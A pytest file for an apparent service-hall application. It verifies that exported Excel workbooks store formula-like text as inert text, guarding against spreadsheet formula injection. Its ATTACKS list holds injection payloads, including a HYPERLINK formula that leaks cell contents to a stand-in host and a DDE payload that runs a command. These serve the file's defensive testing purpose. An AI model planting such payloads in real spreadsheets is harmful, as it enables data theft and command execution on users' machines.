"""Formula injection (issue 12, 6): every workbook the product exports goes through core.xlsx,
which writes a formula-like text as text; the visits register and the queue statistics too."""

import datetime as dt
import io
import zipfile
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook

from servicehall.core import xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return sum(
            book.read(n).decode().count("<f>") for n in book.namelist() if n.startswith("xl/worksheets/")
        )


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_like_text_is_saved_as_text_and_reads_back_exactly(value):
    wb = Workbook()
    wb.active.append([value, "普通文字", 12, -3])
    data = xlsx.to_bytes(wb)
    assert _formulas(data) == 0
    row = next(load_workbook(io.BytesIO(data)).active.iter_rows())
    kept = value.replace("\r", "\n")  # XML itself reads a carriage return as a line feed
    assert [c.value for c in row] == [kept, "普通文字", 12, -3]
    assert row[0].data_type == "s" and row[0].quotePrefix and not row[1].quotePrefix


def test_the_plain_openpyxl_save_would_have_written_a_formula():
    """What the helper prevents: openpyxl alone turns the text into a live formula."""
    wb = Workbook()
    wb.active.append([ATTACKS[0]])
    out = io.BytesIO()
    wb.save(out)
    assert _formulas(out.getvalue()) == 1


def test_visits_register_writes_a_visitors_formula_name_as_text(demo, user_named):
    from servicehall.cases import ledger, selectors
    from servicehall.cases.tests.test_visits import MORNING, record
    from servicehall.core import clock

    with clock.freeze(MORNING):
        record(demo, user_named("chenjianwei"), visitor_name=ATTACKS[0][:40], matter=ATTACKS[1])
        day = dt.date(2026, 11, 23)
        data = ledger.daily_workbook(demo.name, day, selectors.visits_on(demo, day, None))
    assert _formulas(data) == 0
    values = {c.value for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row}
    assert ATTACKS[1] in values


def test_queue_statistics_write_a_formula_like_window_name_as_text():
    from servicehall.tickets import export

    tally = SimpleNamespace(issued=1, served=1, no_show=0, waiting_avg=1.0, waiting_max=2.0, service_avg=3.0)
    stats = {
        "by_line": {"=1+1": tally},
        "by_window": {"@evil": tally},
        "by_day": {},
        "extended": [],
        "absences": [],
    }
    day = dt.date(2026, 11, 23)
    data = export.statistics_workbook(SimpleNamespace(name="中心"), day, day, stats)
    assert _formulas(data) == 0
    values = {
        c.value for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row
    }
    assert {"=1+1", "@evil"} <= values
